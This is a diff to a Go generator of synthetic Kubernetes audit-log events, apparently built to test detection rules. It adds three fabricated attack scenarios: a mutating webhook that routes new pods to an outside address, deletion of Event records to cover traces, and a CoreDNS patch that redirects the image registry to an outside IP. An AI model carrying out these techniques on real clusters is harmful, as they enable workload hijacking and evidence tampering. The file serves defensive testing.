@@ -46,6 +46,9 @@ var mix = []Scenario{
 	{Name: "anonymous-allowed", Weight: 3, Detection: "Kubernetes Anonymous Request Allowed", gen: anonymousAllowed},
 	{Name: "unapproved-image-pull", Weight: 3, Detection: "Kubernetes Image Pulled From Unapproved Registry", gen: unapprovedImagePull},
 	{Name: "pod-in-default-namespace", Weight: 3, Detection: "Kubernetes Pod Created in Default or System Namespace", gen: podInDefault},
+	{Name: "admission-webhook-create", Weight: 3, Detection: "Kubernetes Admission Webhook Configuration Changed", gen: admissionWebhookCreate},
+	{Name: "events-delete", Weight: 3, Detection: "Kubernetes Event Records Deleted", gen: eventsDelete},
+	{Name: "coredns-patch", Weight: 3, Detection: "Kubernetes CoreDNS Configuration Changed", gen: coreDNSPatch},
 	{Name: "unauthenticated-scan", Weight: 16, Detection: "Kubernetes API Scanning by Unauthenticated Source", burst: 8, gen: unauthenticatedScan},
 	{Name: "permission-probing", Weight: 16, Detection: "Kubernetes Permission Probing by Authenticated Identity", burst: 8, gen: permissionProbing},
 }
@@ -408,6 +411,41 @@ func podInDefault(g *Generator) []Event {
 		{"labels", obj{{"run", name}}}}}, {"spec", g.podSpec("default", arr{g.container(name, "busybox:1.36", nil)}, nil)}, {"status", obj{}}}
 	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
 		uri: uri("", "v1", "default", "pods", "", "") + "?fieldManager=kubectl-run", ref: ref("pods", "default", name, "", "v1", ""), reqObj: pod}))
+}
+
+// admissionWebhookCreate registers a mutating webhook that sends every new pod to an address outside the cluster.
+func admissionWebhookCreate(g *Generator) []Event {
+	who := g.person()
+	name := "pod-defaults-" + g.r.alnum(4)
+	hook := obj{{"name", "defaults.pods.example.io"},
+		{"clientConfig", obj{{"url", fmt.Sprintf("https://203.0.113.%d:8443/mutate", g.r.between(2, 250))}}},
+		{"rules", arr{obj{{"operations", []string{"CREATE"}}, {"apiGroups", []string{""}}, {"apiVersions", []string{"v1"}},
+			{"resources", []string{"pods"}}, {"scope", "*"}}}},
+		{"failurePolicy", "Ignore"}, {"sideEffects", "None"}, {"timeoutSeconds", 5}, {"admissionReviewVersions", []string{"v1"}}}
+	cfg := obj{{"kind", "MutatingWebhookConfiguration"}, {"apiVersion", "admissionregistration.k8s.io/v1"},
+		{"metadata", obj{{"name", name}, {"creationTimestamp", nil}}}, {"webhooks", arr{hook}}}
+	return one(g.event(req{level: "Request", verb: "create", who: who, code: 201,
+		uri: "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations?fieldManager=kubectl-create&fieldValidation=Strict",
+		ref: ref("mutatingwebhookconfigurations", "", name, "admissionregistration.k8s.io", "v1", ""), reqObj: cfg}))
+}
+
+// eventsDelete removes the Event that recorded an image pull, one of the traces `kubectl get events` shows.
+func eventsDelete(g *Generator) []Event {
+	who := g.person()
+	name := fmt.Sprintf("node-agent-%s.%x", g.r.alnum(5), g.r.next()>>12)
+	return one(g.event(req{verb: "delete", who: who, uri: uri("", "v1", "kube-system", "events", name, ""),
+		ref: ref("events", "kube-system", name, "", "v1", "")}))
+}
+
+// coreDNSPatch adds a hosts entry to CoreDNS's Corefile that resolves the registry to an outside address.
+func coreDNSPatch(g *Generator) []Event {
+	who := g.person()
+	corefile := fmt.Sprintf(".:53 {\n    errors\n    health\n    ready\n    hosts {\n       203.0.113.%d %s\n       fallthrough\n    }\n"+
+		"    kubernetes cluster.local in-addr.arpa ip6.arpa {\n       pods insecure\n       fallthrough in-addr.arpa ip6.arpa\n    }\n"+
+		"    forward . /etc/resolv.conf\n    cache 30\n    loop\n    reload\n    loadbalance\n}\n", g.r.between(2, 250), strings.Split(pick(&g.r, registries), "/")[0])
+	return one(g.event(req{level: "Request", verb: "patch", who: who,
+		uri: uri("", "v1", "kube-system", "configmaps", "coredns", "") + "?fieldManager=kubectl-edit&fieldValidation=Strict",
+		ref: ref("configmaps", "kube-system", "coredns", "", "v1", ""), reqObj: obj{{"data", obj{{"Corefile", corefile}}}}}))
 }
 
 // unauthenticatedScan is one address trying eight API paths without credentials, all refused.
